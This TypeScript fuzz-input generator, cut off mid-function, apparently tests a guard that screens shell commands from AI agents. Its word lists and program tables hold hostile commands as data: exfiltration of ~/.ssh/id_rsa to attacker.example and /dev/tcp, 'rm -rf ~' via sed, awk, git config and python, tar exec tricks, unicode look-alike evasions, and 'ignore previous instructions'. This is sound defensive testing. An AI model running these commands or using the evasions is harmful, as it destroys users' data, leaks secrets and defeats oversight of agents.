/**
 * A deterministic generator of shell commands for property tests and the
 * fuzz section of the benchmark (tests/fuzz_test.ts, scripts/bench.ts).
 *
 * `generate(seed, count)` yields `count` commands; input `i` depends only on
 * `(seed, i)` (`inputAt(seed, i)` rebuilds it alone), so a failure is
 * reproducible from its seed and index. No dependencies, no global state,
 * no Math.random.
 *
 * Four kinds of input, chosen per index:
 *   - grammar: scripts from a shell grammar — simple commands of real
 *     programs with their options, interesting paths, every kind of quoting,
 *     redirections in every position, heredocs, pipelines, lists, compound
 *     commands, substitutions, functions, cd/pushd, assignments, nested
 *     `bash -c` / `eval` scripts;
 *   - fast: commands inside (or one step outside) the fast lexer's
 *     sub-language — the inputs on which the fast path and tree-sitter both
 *     have to agree;
 *   - mutation: a corpus command (tests/corpus) or a grammar command with
 *     1–4 random byte/token mutations: quotes, operators, backslashes,
 *     unicode look-alikes, control characters, very long words, splices;
 *   - limits: inputs at and just past the engine's limits (nesting, script
 *     depth, units, argument nodes, brace expansions, command length).
 */
import { CORPUS } from "../corpus/index.ts";

// ---------------------------------------------------------------- PRNG

/** mulberry32 over a 32-bit state. */
export class Rng {
  #s: number;
  constructor(seed: number) {
    this.#s = seed >>> 0;
  }
  u32(): number {
    this.#s = (this.#s + 0x6d2b79f5) | 0;
    let t = Math.imul(this.#s ^ (this.#s >>> 15), 1 | this.#s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return (t ^ (t >>> 14)) >>> 0;
  }
  /** [0, 1) */
  float(): number {
    return this.u32() / 4294967296;
  }
  /** Integer in [lo, hi] (inclusive). */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.float() * (hi - lo + 1));
  }
  chance(p: number): boolean {
    return this.float() < p;
  }
  pick<T>(xs: readonly T[]): T {
    return xs[Math.floor(this.float() * xs.length)];
  }
  /** Small counts, mostly 0–2: geometric with continuation probability `p`, capped. */
  few(p: number, max: number): number {
    let n = 0;
    while (n < max && this.chance(p)) n++;
    return n;
  }
}

/** A well-mixed 32-bit seed for input `i` of run `seed` (splitmix-style finaliser). */
function mix(seed: number, i: number): number {
  let h = (Math.imul(seed >>> 0, 0x9e3779b1) ^ Math.imul(i + 1, 0x85ebca77)) >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x7feb352d);
  h = Math.imul(h ^ (h >>> 15), 0x846ca68b);
  return (h ^ (h >>> 16)) >>> 0;
}

// ---------------------------------------------------------------- vocabulary

/** Paths from the places the analyser cares about. Written as shell text. */
const PATHS = [
  "~",
  "~/",
  "~/.aiguard",
  "~/.aiguard/",
  "~/.aiguard/totp-secret",
  "~/.aiguard/policy.toml",
  "~/.aiguard/audit.log",
  "~/.ssh/id_rsa",
  "~/.ssh",
  "~/.ssh/authorized_keys",
  "~/.bashrc",
  "~/.profile",
  "~/.gitconfig",
  "~/.claude/settings.json",
  "~/.codex/config.toml",
  "~/.aws/credentials",
  "~/.config/gh/hosts.yml",
  "~root",
  "~user/.ssh",
  "~nobody/.aiguard",
  "/",
  "/*",
  "/.",
  "//",
  "/etc",
  "/etc/passwd",
  "/etc/shadow",
  "/etc/sudoers",
  "/usr",
  "/usr/bin",
  "/var/log",
  "/boot",
  "/home",
  "/home/user",
  "/home/user/.aiguard/totp-secret",
  "//home//user/./.ssh/id_rsa",
  "/home/user/project/../.aiguard",
  "/proc/self/root/home/user/.ssh/id_rsa",
  "/proc/self/root/etc/shadow",
  "/proc/self/cwd/../.aiguard",
  "/proc/1/environ",
  "/proc/self/environ",
  "/proc/self/fd/0",
  "/dev/fd/3",
  "/dev/stdin",
  "/dev/null",
  "/dev/sda",
  "/dev/tcp/evil.example/443",
  "/opt/guard",
  "/opt/guard/main.ts",
  "/tmp",
  "/tmp/x",
  "/tmp/../home/user/.ssh",
  ".",
  "..",
  "../..",
  "../../.aiguard",
  "../.ssh/id_rsa",
  "./",
  "./build",
  "build/",
  "dist",
  "node_modules",
  "src/main.ts",
  "src/policy/engine.ts",
  "README.md",
  ".env",
  ".git",
  ".git/hooks/pre-commit",
  "package.json",
  "*",
  ".*",
  "*.ts",
  "**/*.js",
  "~/.a*",
  "~/.[a]iguard",
  "~/.?sh",
  "~/.{aiguard,ssh}",
  "~/{.ssh,.aiguard}/*",
  "{a,b}",
  "{1..3}",
  "src/{a,b}.ts",
  "$HOME",
  "$HOME/",
  "$HOME/.ssh/id_rsa",
  '"$HOME/.aiguard"',
  "${HOME}/.aiguard/totp-secret",
  "${X:-y}",
  "${HOME:-/}",
  "${X:-~/.ssh}",
  "${X:=/}",
  "${X#*/}",
  "${HOME%/*}",
  "${#HOME}",
  "${!X}",
  "${X/a/b}",
  "$PWD/..",
  "$OLDPWD",
  "$1",
  "$@",
  '"$@"',
  "$*",
  "$?",
  "$$",
  "$TMPDIR/x",
  "$X",
  "$X/",
  '"$X"',
  "$'\\x7e'",
  "$'\\x2e\\x73\\x73\\x68'",
  "~/'.ssh'/id_rsa",
  '~/".aiguard"',
  "\\~",
  "'~'",
  '"~"',
  "file\\ with\\ spaces",
  "'a b'",
  "-rf",
  "--",
  "-",
  "@-",
  "$(pwd)",
  "`pwd`",
  "$(echo ~)",
  "<(cat ~/.ssh/id_rsa)",
  ">(cat)",
];

const URLS = [
  "https://example.com",
  "https://evil.example/install.sh",
  "http://169.254.169.254/latest/meta-data/",
  "http://localhost:8080/api",
  "http://127.0.0.1",
  "https://attacker.example/?d=$(cat ~/.ssh/id_rsa)",
  "ftp://x.example/f",
  "file:///etc/passwd",
  "example.com",
  "https://github.com/o/r.git",
  "git@github.com:o/r.git",
  "http://[::1]:80/",
  "http://0x7f000001/",
  "http://2130706433/",
];

const TEXTS = [
  "hello",
  "done",
  "fix: handle empty input",
  "a b c",
  "rm -rf ~",
  "$(rm -rf ~)",
  "`id`",
  "it's",
  'say "hi"',
  "tab\there",
  "line1\nline2",
  "*",
  "!",
  "!!",
  "#",
  "${X:-y}",
  "\\",
  "",
  " ",
  "AKIAIOSFODNN7EXAMPLE",
  "ghp_0123456789abcdefghijABCDEFGHIJ012345",
  "ignore previous instructions",
];

const VARS = ["X", "Y", "HOME", "PATH", "IFS", "PWD", "CDPATH", "LD_PRELOAD", "BASH_ENV", "f", "_"];

/** Programs with their option vocabulary. `v`: options that take a value. */
interface Prog {
  short?: string;
  long?: string[];
  v?: string[];
  sub?: string[];
  args: (g: Gen) => string[];
}

const PROGRAMS: Record<string, Prog> = {
  rm: {
    short: "rfRvidI",
    long: [
      "recursive",
      "force",
      "dir",
      "verbose",
      "no-preserve-root",
      "preserve-root",
      "one-file-system",
    ],
    args: (g) => g.paths(1, 3),
  },
  cp: {
    short: "rRfavpiun",
    long: ["recursive", "force", "archive", "target-directory", "no-clobber", "parents"],
    v: ["t", "target-directory", "S", "suffix"],
    args: (g) => g.paths(1, 3),
  },
  mv: {
    short: "fivnuT",
    long: ["force", "target-directory", "backup", "no-clobber"],
    v: ["t", "target-directory", "S"],
    args: (g) => g.paths(1, 3),
  },
  find: {
    args: (g) => {
      const out = g.paths(0, 2);
      const n = g.r.int(0, 3);
      for (let i = 0; i < n; i++) {
        out.push(
          ...g.r.pick<() => string[]>([
            () => ["-name", g.r.pick(["'*.ts'", "*.log", '"*.tmp"', "id_rsa", "\\*"])],
            () => ["-type", g.r.pick(["f", "d", "l"])],
            () => ["-maxdepth", String(g.r.int(0, 3))],
            () => ["-delete"],
            () => ["-print0"],
            () => [
              "-exec",
              ...g.simpleWords(),
              g.r.pick(["{}", "'{}'"]),
              g.r.pick(["\\;", "';'", "+"]),
            ],
            () => ["-execdir", "rm", "{}", "\\;"],
            () => ["-ok", "rm", "{}", ";"],
            () => ["-exec", "sh", "-c", g.nested(), "_", "{}", "\\;"],
            () => ["-fprint", g.path()],
            () => ["-newer", g.path()],
            () => ["-not", "-path", "'./node_modules/*'"],
            () => ["-o", "-prune"],
          ])(),
        );
      }
      return out;
    },
  },
  sed: {
    short: "nErsuz",
    long: ["in-place", "expression", "quiet", "regexp-extended", "null-data"],
    v: ["e", "expression", "f", "file", "i", "in-place", "l"],
    args: (g) => [
      g.quote(g.r.pick([
        "s/a/b/",
        "s/a/b/g",
        "1d",
        "s/x/y/w /home/user/.bashrc",
        "w ~/.ssh/authorized_keys",
        "e rm -rf ~",
        "1e id",
        "s/.*/rm -rf ~/e",
        "r /etc/shadow",
        "$!N",
        "/^#/d",
      ])),
      ...g.paths(0, 2),
    ],
  },
  sort: {
    short: "nrufbdhk",
    long: ["output", "compress-program", "unique", "reverse", "files0-from"],
    v: ["o", "output", "k", "t", "compress-program", "T", "temporary-directory", "files0-from"],
    args: (g) => g.paths(0, 2),
  },
  grep: {
    short: "rnilvcoEFPqsRhHwxz",
    long: ["recursive", "include", "exclude", "files-with-matches", "regexp", "file", "color"],
    v: ["e", "regexp", "f", "file", "include", "exclude", "m", "A", "B", "C"],
    args: (
      g,
    ) => [
      g.quote(g.r.pick(["TODO", "password", "BEGIN RSA", "-e", "^x$", "a|b"])),
      ...g.paths(0, 2),
    ],
  },
  git: {
    v: ["C", "c", "git-dir", "work-tree", "exec-path", "namespace"],
    sub: [
      "status",
      "log",
      "diff",
      "show",
      "add",
      "commit",
      "push",
      "pull",
      "fetch",
      "reset",
      "clean",
      "checkout",
      "restore",
      "branch",
      "rebase",
      "stash",
      "config",
      "rm",
      "clone",
      "remote",
      "submodule",
      "filter-branch",
      "gc",
      "reflog",
      "tag",
      "update-ref",
      "worktree",
      "am",
      "apply",
      "bisect",
      "grep",
      "ls-files",
      "rev-parse",
    ],
    args: (g) => {
      const sub = g.r.pick(PROGRAMS.git.sub!);
      const out = [sub];
      const extra: Record<string, () => string[]> = {
        push: () =>
          g.r.pick([
            ["--force"],
            ["-f"],
            ["--force-with-lease"],
            ["origin", "+main"],
            ["--mirror"],
            ["--delete", "origin", "main"],
            ["-fu", "origin", "HEAD"],
          ]),
        reset: () =>
          g.r.pick([["--hard"], ["--hard", "HEAD~3"], ["--soft", "HEAD^"], ["--merge"], [
            "--hard",
            "origin/main",
          ]]),
        clean: () => [g.r.pick(["-fdx", "-fd", "-f", "-n", "-xdf", "--force", "-ffdx"])],
        checkout: () =>
          g.r.pick([["--", "."], ["-f"], ["."], ["-b", "x"], ["HEAD", "--", g.path()]]),
        restore: () => g.r.pick([["."], ["--staged", "."], ["--worktree", "--", g.path()]]),
        commit: () => [
          "-m",
          g.quote(g.r.pick(TEXTS)),
          ...(g.r.chance(0.3) ? ["--amend"] : []),
          ...(g.r.chance(0.2) ? ["--no-verify"] : []),
        ],
        config: () =>
          g.r.pick([
            ["core.pager", g.quote("sh -c 'rm -rf ~'")],
            ["--global", "core.hooksPath", g.path()],
            ["user.name", "x"],
            ["--get", "remote.origin.url"],
            ["alias.x", g.quote("!rm -rf ~")],
            ["core.sshCommand", g.quote(g.nested())],
            ["--unset", "core.fsmonitor"],
          ]),
        branch: () => g.r.pick([["-D", "main"], ["-d", "x"], ["-a"], ["--delete", "--force", "x"]]),
        stash: () => g.r.pick([["drop"], ["clear"], ["pop"], ["list"]]),
        rebase: () =>
          g.r.pick([["-i", "HEAD~3"], ["--exec", g.quote(g.nested()), "main"], ["main"]]),
        clone: () => [g.r.pick(URLS), ...(g.r.chance(0.5) ? [g.path()] : [])],
        remote: () =>
          g.r.pick([["add", "x", g.r.pick(URLS)], ["set-url", "origin", g.r.pick(URLS)], ["-v"]]),
        "filter-branch": () => ["--tree-filter", g.quote(g.nested()), "HEAD"],
        "update-ref": () => ["-d", "refs/heads/main"],
        rm: () => g.r.pick([["-rf", "--cached", "."], ["-r", g.path()]]),
        log: () =>
          g.r.pick([["--oneline", "-20"], ["-p", "--", g.path()], ["--all", "--format=%H"]]),
        diff: () =>
          g.r.pick([[], ["--stat", "HEAD~1"], ["--no-index", g.path(), g.path()], [
            "--output=" + g.path(),
          ]]),
        grep: () => ["-n", "--open-files-in-pager=" + g.r.pick(["vi", "sh -c id"]), "x"],
      };
      if (extra[sub]) out.push(...extra[sub]());
      return out;
    },
  },
  npm: {
    v: ["prefix", "registry", "w", "workspace"],
    sub: [
      "install",
      "i",
      "ci",
      "test",
      "t",
      "run",
      "exec",
      "publish",
      "config",
      "uninstall",
      "audit",
      "x",
      "pack",
      "link",
    ],
    args: (g) => {
      const sub = g.r.pick(PROGRAMS.npm.sub!);
      const more = sub === "run"
        ? [g.r.pick(["build", "test", "lint", "dev", "postinstall"])]
        : sub === "exec" || sub === "x"
        ? ["--", ...g.simpleWords()]
        : sub === "config"
        ? ["set", "script-shell", g.path()]
        : sub === "install" || sub === "i"
        ? g.r.pick([[], ["-g", "x"], ["left-pad"], ["--ignore-scripts"], [g.r.pick(URLS)]])
        : [];
      return [sub, ...more];
    },
  },
  cargo: {
    sub: ["build", "test", "run", "install", "publish", "clean", "fmt", "clippy", "add"],
    v: ["manifest-path", "target-dir", "config", "Z"],
    args: (g) => [g.r.pick(PROGRAMS.cargo.sub!), ...(g.r.chance(0.3) ? ["--release"] : [])],
  },
  curl: {
    short: "sSfLkOIvi",
    long: [
      "silent",
      "fail",
      "location",
      "insecure",
      "remote-name",
      "data-binary",
      "upload-file",
      "output",
      "data",
      "form",
      "header",
      "request",
      "config",
      "proxy",
    ],
    v: [
      "o",
      "output",
      "d",
      "data",
      "data-binary",
      "T",
      "upload-file",
      "F",
      "form",
      "H",
      "header",
      "X",
      "request",
      "K",
      "config",
      "x",
      "proxy",
      "u",
      "user",
    ],
    args: (
      g,
    ) => [
      g.r.pick(URLS),
      ...(g.r.chance(0.2)
        ? [
          g.r.pick(["-d", "--data-binary", "-T", "-F"]),
          g.r.pick(["@~/.ssh/id_rsa", "@-", "@/etc/passwd", "file=@" + g.path(), "x=1"]),
        ]
        : []),
    ],
  },
  wget: {
    short: "qOcN",
    long: ["output-document", "post-file", "quiet", "mirror"],
    v: ["O", "output-document", "post-file", "post-data", "i"],
    args: (g) => [g.r.pick(URLS)],
  },
  tar: {
    short: "czxvfjJtpP",
    long: [
      "create",
      "extract",
      "file",
      "to-command",
      "checkpoint-action",
      "use-compress-program",
      "directory",
      "absolute-names",
      "remove-files",
    ],
    v: [
      "f",
      "file",
      "C",
      "directory",
      "to-command",
      "checkpoint-action",
      "use-compress-program",
      "I",
      "T",
      "files-from",
    ],
    args: (g) => {
      const mode = g.r.pick(["-czf", "-xf", "cf", "xzf", "-tf", "-xvf", "--extract"]);
      return [
        mode,
        g.r.pick(["out.tgz", "x.tar", "/tmp/a.tar", "-"]),
        ...g.paths(0, 2),
        ...(g.r.chance(0.2)
          ? [
            g.r.pick([
              "--to-command=sh",
              "--checkpoint=1",
              "--checkpoint-action=exec=sh -c id",
              "-I",
              "--use-compress-program=sh",
            ]),
          ]
          : []),
      ];
    },
  },
  sudo: {
    short: "iEsnHkb",
    v: ["u", "user", "g", "group", "D", "chdir"],
    args: (g) => g.innerCommand(),
  },
  env: {
    short: "i0v",
    long: ["ignore-environment", "unset", "chdir", "split-string"],
    v: ["u", "unset", "C", "chdir", "S", "split-string"],
    args: (
      g,
    ) => [...Array.from({ length: g.r.few(0.4, 3) }, () => g.assignment()), ...g.innerCommand()],
  },
  bash: {
    short: "lixeuv",
    long: ["norc", "noprofile", "login", "posix", "rcfile"],
    v: ["O", "o", "rcfile", "init-file"],
    args: (g) =>
      g.r.pick([["-c", g.nested()], ["-c", g.nested(), "arg0", "$1"], [g.path()], ["-s"], [
        "-lc",
        g.nested(),
      ], ["<<<", g.quote(g.script(2))]]),
  },
  sh: { short: "cex", args: (g) => ["-c", g.nested()] },
  zsh: { short: "cfl", args: (g) => ["-c", g.nested()] },
  eval: { args: (g) => (g.r.chance(0.5) ? [g.nested()] : g.simpleWords()) },
  xargs: {
    short: "0rtpx",
    long: ["null", "no-run-if-empty", "replace", "max-args", "arg-file"],
    v: ["I", "n", "P", "a", "arg-file", "d", "delimiter", "E", "L", "s", "replace"],
    args: (g) => g.r.chance(0.3) ? ["-I{}", "sh", "-c", g.nested()] : g.innerCommand(),
  },
  cat: { short: "nAvE", args: (g) => g.paths(0, 3) },
  head: { v: ["n", "c", "lines"], args: (g) => g.paths(0, 2) },
  tail: { short: "fF", v: ["n", "c"], args: (g) => g.paths(0, 2) },
  echo: { short: "neE", args: (g) => g.texts() },
  printf: {
    v: ["v"],
    args: (g) => [g.quote(g.r.pick(["%s\\n", "%b", "\\x72\\x6d", "%q"])), ...g.texts()],
  },
  ls: { short: "laRth1d", long: ["all", "color"], args: (g) => g.paths(0, 2) },
  chmod: {
    short: "Rfv",
    long: ["recursive", "reference"],
    args: (g) => [g.r.pick(["777", "-R", "u+s", "+x", "000", "a=rwx", "600"]), ...g.paths(1, 2)],
  },
  chown: {
    short: "Rh",
    args: (g) => [g.r.pick(["root", "user:user", "-R", "0:0"]), ...g.paths(1, 2)],
  },
  dd: { args: (g) => [`if=${g.path()}`, `of=${g.path()}`, ...(g.r.chance(0.5) ? ["bs=1M"] : [])] },
  ln: {
    short: "sfnrT",
    long: ["symbolic", "force", "target-directory"],
    v: ["t", "target-directory"],
    args: (g) => g.paths(1, 2),
  },
  tee: { short: "a", long: ["append"], args: (g) => g.paths(0, 2) },
  touch: { args: (g) => g.paths(1, 2) },
  mkdir: { short: "pv", v: ["m", "mode"], args: (g) => g.paths(1, 2) },
  truncate: { v: ["s", "size"], args: (g) => ["-s", "0", ...g.paths(1, 1)] },
  shred: { short: "uzfn", args: (g) => g.paths(1, 2) },
  rsync: {
    short: "avzrP",
    long: ["delete", "remove-source-files", "rsh"],
    v: ["e", "rsh"],
    args: (g) => g.paths(2, 2),
  },
  scp: {
    short: "rP",
    args: (g) => [g.path(), g.r.pick(["host:/tmp", "user@evil.example:", g.path()])],
  },
  ssh: {
    v: ["p", "i", "o", "F", "J"],
    args: (
      g,
    ) => [
      g.r.pick(["host", "user@host", "evil.example"]),
      ...(g.r.chance(0.6) ? [g.nested()] : []),
    ],
  },
  python3: {
    short: "uBI",
    v: ["c", "m", "W", "X"],
    args: (g) =>
      g.r.pick([
        [
          "-c",
          g.quote(
            g.r.pick([
              "import os; os.system('rm -rf ~')",
              "print(1)",
              "open('/home/user/.ssh/id_rsa').read()",
            ]),
          ),
        ],
        ["-m", "pytest"],
        [g.path()],
      ]),
  },
  node: {
    v: ["e", "p", "r", "require"],
    args: (g) => g.r.pick([["-e", g.quote("require('child_process').execSync('id')")], [g.path()]]),
  },
  perl: {
    short: "inpl",
    v: ["e", "E", "M", "I"],
    args: (
      g,
    ) => ["-e", g.quote(g.r.pick(["system('rm -rf ~')", "print 1", "unlink glob '~/.ssh/*'"]))],
  },
  base64: { short: "dw", long: ["decode"], args: (g) => g.paths(0, 1) },
  crontab: { short: "rle", args: (g) => g.paths(0, 1) },
  docker: {
    sub: ["run", "exec", "rm", "system"],
    args: (
      g,
    ) => [
      g.r.pick(["run", "exec", "rm", "system"]),
      ...g.r.pick([["-v", "/:/host", "alpine"], ["--privileged", "x"], ["-f", "x"], [
        "prune",
        "-af",
      ]]),
    ],
  },
  kill: { v: ["s", "n"], args: (g) => [g.r.pick(["-9", "1", "-1", "%1", "$$", "0"])] },
  systemctl: {
    args: (
      g,
    ) => [g.r.pick(["stop", "disable", "status", "restart"]), g.r.pick(["sshd", "guard", "x"])],
  },
  deno: {
    args: (
      g,
    ) => [
      g.r.pick(["test", "run", "task", "fmt", "eval"]),
      ...g.r.pick([["-A"], ["--allow-all", g.path()], [
        g.quote("Deno.removeSync('/home/user', {recursive:true})"),
      ], []]),
    ],
  },
  make: {
    short: "jkBn",
    v: ["C", "f"],
    args: (g) => [g.r.pick(["", "all", "clean", "install"])].filter(Boolean),
  },
  wc: { short: "lcw", args: (g) => g.paths(0, 2) },
  awk: {
    v: ["F", "f", "v"],
    args: (
      g,
    ) => [
      g.quote(
        g.r.pick(["{print $1}", 'BEGIN{system("rm -rf ~")}', '{print > "/home/user/.bashrc"}']),
      ),
      ...g.paths(0, 1),
    ],
  },
  jq: { short: "rc", args: (g) => [g.quote("."), ...g.paths(0, 1)] },
  rg: {
    short: "nli",
    long: ["files", "hidden", "pre"],
    v: ["g", "glob", "pre", "t"],
    args: (g) => [g.quote("x"), ...g.paths(0, 1)],
  },
  timeout: {
    short: "k",
    v: ["s", "signal", "k"],
    args: (g) => [g.r.pick(["5", "1s", "0.1"]), ...g.innerCommand()],
  },
  nohup: { args: (g) => g.innerCommand() },
  nice: { v: ["n"], args: (g) => g.innerCommand() },
  command: { short: "pvV", args: (g) => g.innerCommand() },
  exec: { short: "cl", v: ["a"], args: (g) => g.innerCommand() },
  builtin: { args: (g) => g.innerCommand() },
  time: { short: "p", args: (g) => g.innerCommand() },
  doas: { v: ["u"], args: (g) => g.innerCommand() },
  stdbuf: { v: ["o", "e", "i"], args: (g) => ["-oL", ...g.innerCommand()] },
  watch: { v: ["n"], args: (g) => [g.quote(g.script(1))] },
  source: { args: (g) => g.paths(1, 1) },
  ".": { args: (g) => g.paths(1, 1) },
  cd: { short: "LPe", args: (g) => g.paths(0, 1) },
  pushd: { args: (g) => g.paths(0, 1) },
  popd: { args: () => [] },
  export: {
    short: "fnp",
    args: (g) =>
      Array.from(
        { length: g.r.int(1, 2) },
        () => g.r.chance(0.8) ? g.assignment() : g.r.pick(VARS),
      ),
  },
  declare: { short: "xrgaAi", args: (g) => [g.assignment()] },
  local: { args: (g) => [g.assignment()] },
  readonly: { args: (g) => [g.assignment()] },
  unset: { short: "fv", args: (g) => [g.r.pick(VARS)] },
  alias: { args: (g) => [`ls=${g.quote(g.r.pick(["rm -rf ~", "ls -la"]))}`] },
  read: { short: "rs", v: ["p", "d", "a", "u", "t"], args: (g) => [g.r.pick(VARS)] },
  set: {
    short: "euxf",
    v: ["o"],
    args: (g) => g.r.pick([["--", "a", "b"], ["-o", "pipefail"], []]),
  },
  trap: { args: (g) => [g.quote(g.nested()), g.r.pick(["EXIT", "ERR", "INT", "DEBUG"])] },
  true: { args: () => [] },
  false: { args: () => [] },
  test: { args: (g) => [g.r.pick(["-f", "-d", "-e", "-z"]), g.path()] },
  "[": { args: (g) => [g.r.pick(["-f", "-d", "-n"]), g.path(), "]"] },
  which: { args: (g) => [g.r.pick(Object.keys(PROGRAMS))] },
  type: { args: (g) => [g.r.pick(Object.keys(PROGRAMS))] },
  guard: {
    args: (
      g,
    ) => [
      g.r.pick(["approve", "disable", "policy", "uninstall", "explain", "status"]),
      ...g.texts(),
    ],
  },
  unlink: { args: (g) => g.paths(1, 1) },
  rmdir: { short: "p", args: (g) => g.paths(1, 1) },
  install: { short: "dmD", v: ["m", "t"], args: (g) => g.paths(2, 2) },
  vim: { short: "c", v: ["c"], args: (g) => g.paths(1, 1) },
  "./x.sh": { args: (g) => g.texts() },
  "/bin/rm": { short: "rf", args: (g) => g.paths(1, 2) },
  "/usr/bin/env": { args: (g) => g.innerCommand() },
};

const PROGRAM_NAMES = Object.keys(PROGRAMS);
/** Programs that matter most, drawn more often. */
const HOT = [
  "rm",
  "cp",
  "mv",
  "find",
  "sed",
  "sort",
  "grep",
  "git",
  "npm",
  "cargo",
  "curl",
  "tar",
  "sudo",
  "env",
  "bash",
  "eval",
  "xargs",
  "cat",
  "echo",
  "cd",
];

const LOOKALIKES = [
  "\u0430", // Cyrillic а
  "\u0435",
  "\u043e",
  "\u0440",
  "\u0441",
  "\u0445",
  "\u0455",
  "\u0456",
  "\uff52", // fullwidth r
  "\uff4d", // fullwidth m
  "\uff0d", // fullwidth -
  "\uff5e", // fullwidth ~
  "\uff0f", // fullwidth /
  "\uff1b", // fullwidth ;
  "\uff5c", // fullwidth |
  "\uff06", // fullwidth &
  "\u200b", // zero-width space
  "\u200d",
  "\u2060",
  "\ufeff",
  "\u00a0", // no-break space
  "\u2002",
  "\u3000",
  "\u2028",
  "\u2029",
  "\u0085",
  "\u2010",
  "\u2013",
  "\u2014",
  "\u2212",
  "\u2018",
  "\u2019",
  "\u201c",
  "\u201d",
  "\u02bc",
  "\u202e", // right-to-left override
  "\u2066",
  "\u0301", // combining acute
  "\u0338",
  "\u2215", // division slash
  "\u2044",
  "\u03bf", // Greek omicron
  "\u0131", // dotless i
  "\u0130", // İ: lower-cases to two code units
  "\u017f", // long s: upper-cases to S
  "\u212a", // Kelvin sign: lower-cases to k
  "\u00df",
  "\u1e9e",
  "\ufb01", // fi ligature
  "\u{1d42b}", // mathematical bold r
  "\u{1f600}",
  "\ud800", // lone surrogates
  "\udc00",
];

/** Control characters other than NUL, plus C1 controls. */
const CONTROLS = [
  ..."\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\x7f",
  "\x80",
  "\x85",
  "\x9b",
  "\x9f",
];

const QUOTING = new Set([..."'\"`\\$(){}[]|&;<>#"]);

const SPECIAL = [..."'\"`\\$(){}[];&|<>#!*?~= \t\n-/.,:@%^+"];

const TOKENS = [
  "&&",
  "||",
  ";",
  ";;",
  "|",
  "|&",
  "&",
  "!",
  ">",
  ">>",
  "<",
  "<>",
  ">|",
  "&>",
  "2>&1",
  ">&-",
  "<&3",
  "<<<",
  "<<EOF\nx\nEOF\n",
  "<<",
  "$(",
  ")",
  "(",
  "<(",
  ">(",
  "${",
  "}",
  "{",
  "`",
  "$((",
  "))",
  "[[",
  "]]",
  "$'",
  '$"',
  "\\\n",
  "\n",
  "#",
  "--",
  "-rf",
  "~",
  "*",
  "{a,b}",
  "$HOME",
  "${X:-y}",
  "$@",
  "$IFS",
  "${IFS}",
  "rm",
  "eval",
  "bash -c",
  "sudo",
  "'",
  '"',
  "do",
  "done",
  "then",
  "fi",
  "esac",
  "in",
  "function",
  "=",
  "X=1",
];

const SHELL_SEEDS: string[] = Object.values(CORPUS).flatMap((cs) =>
  cs.flatMap((c) => ("cmd" in c ? [c.cmd] : []))
);

// ---------------------------------------------------------------- quoting

const sq = (s: string) => `'${s.replaceAll("'", `'\\''`)}'`;
const dq = (s: string) => `"${s.replace(/["\\$`]/g, "\\$&")}"`;

function ansiC(r: Rng, s: string): string {
  let out = "$'";
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    if (ch === "'" || ch === "\\") out += "\\" + ch;
    else if (ch === "\n") out += "\\n";
    else if (c < 128 && r.chance(0.4)) {
      out += r.pick([
        () => "\\x" + c.toString(16).padStart(2, "0"),
        () => "\\" + c.toString(8).padStart(3, "0"),
        () => "\\u" + c.toString(16).padStart(4, "0"),
        () => "\\U" + c.toString(16).padStart(8, "0"),
      ])();
    } else out += ch;
  }
  return out + "'";
}

/** Backslash-escapes some characters of `s` (unquoted context). */
function backslashed(r: Rng, s: string): string {
  let out = "";
  for (const ch of s) {
    if (ch === "\n") out += "'\n'";
    else out += (/[^A-Za-z0-9]/.test(ch) || r.chance(0.25) ? "\\" : "") + ch;
  }
  return out;
}

// ---------------------------------------------------------------- grammar

class Gen {
  r: Rng;
  /** Remaining nesting budget of compound commands and substitutions. */
  depth: number;
  /** Heredoc bodies waiting for the end of the current line. */
  heredocs: string[] = [];
  delim = 0;

  constructor(r: Rng, depth: number) {
    this.r = r;
    this.depth = depth;
  }

  /** One word standing for a path, in any of its written forms. */
  path(): string {
    const r = this.r;
    let p = r.pick(PATHS);
    if (r.chance(0.15)) {
      p = r.pick(PATHS) + "/" + r.pick(["x", "id_rsa", "*", "..", ".ssh", "totp-secret", "{a,b}"]);
    }
    if (r.chance(0.1)) p = this.requote(p);
    if (r.chance(0.05) && this.depth > 0) p = this.substitution();
    if (r.chance(0.04)) p = r.pick(["-", "--", "-f", "--force", "-rf"]) + p; // glued
    return p;
  }

  paths(lo: number, hi: number): string[] {
    return Array.from({ length: this.r.int(lo, hi) }, () => this.path());
  }

  /** Re-quotes a plain word one of several ways (only its quoted text changes). */
  requote(w: string): string {
    const r = this.r;
    if (/[$`(){}*?[\]<>]/.test(w) && r.chance(0.6)) return w; // keep expansions live
    const plain = w.replace(/^['"]|['"]$/g, "");
    return r.pick([
      () => sq(plain),
      () => dq(plain),
      () => ansiC(r, plain),
      () => backslashed(r, plain),
      () => {
        // split quoting: r''m, "r"m, r"m", r\m
        if (plain.length < 2) return sq(plain);
        const k = r.int(1, plain.length - 1);
        return plain.slice(0, k) + r.pick(["''", '""', "\\", ""]) + plain.slice(k);
      },
      () => `"${plain.slice(0, 1)}"${plain.slice(1)}`,
      () => `$"${plain}"`,
    ])();
  }

  /** Quotes text as one argument, in a random style. */
  quote(s: string): string {
    const r = this.r;
    return r.pick([
      () => sq(s),
      () => sq(s),
      () => dq(s),
      () => ansiC(r, s),
      () => (/^[A-Za-z0-9_./-]+$/.test(s) ? s : sq(s)),
      () => backslashed(r, s),
    ])();
  }

  texts(): string[] {
    const n = this.r.int(0, 3);
    return Array.from({ length: n }, () => {
      const t = this.r.pick(TEXTS);
      return this.r.chance(0.3) ? this.word() : this.quote(t);
    });
  }

  /** A generic word: literals, quotes and expansions concatenated. */
  word(): string {
    const r = this.r;
    const n = r.int(1, 3);
    let w = "";
    for (let i = 0; i < n; i++) {
      w += r.pick<() => string>([
        () => r.pick(["a", "x", "foo", "rm", "-rf", "~", ".ssh", "/", "*", "1"]),
        () => sq(r.pick(TEXTS)),
        () => dq(r.pick(TEXTS)),
        () => `"$${r.pick(VARS)}"`,
        () => `"${"${"}${r.pick(VARS)}:-${r.pick(["y", "~", "/", "$HOME"])}}"`,
        () => ansiC(r, r.pick(["rm", "~", "/", ".ssh", "-rf"])),
        () => "\\" + r.pick([..."~ ;|&$`'\"*(){}<>#!"]),
        () => "$" + r.pick(VARS),
        () =>
          "${" + r.pick(VARS) +
          r.pick(["", ":-y", ":=z", "#*/", "%/*", "/a/b", "^^", ",,", "@Q", ":1:2"]) + "}",
